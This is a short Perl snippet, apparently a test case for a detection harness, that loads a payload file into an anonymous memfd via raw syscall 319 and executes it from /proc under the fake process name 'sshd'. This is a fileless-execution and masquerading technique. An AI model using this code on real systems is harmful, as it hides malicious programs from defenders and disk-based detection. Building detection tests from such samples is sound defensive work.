# memfdexec (perl): memfd_create by system call number (319), write the
# program into it, exec it through /proc/PID/fd.
open(my $in, "<", $ENV{RD_PAYLOAD}) or die; binmode $in; local $/; my $data = <$in>; close $in;
stat("/archangel-riskdata/begin/memfdexec");
my $name = "rd";
my $fd = syscall(319, $name, 0);
open(my $out, ">&=", $fd) or die "fdopen: $!";
syswrite($out, $data);
exec {"/proc/$$/fd/$fd"} "sshd";
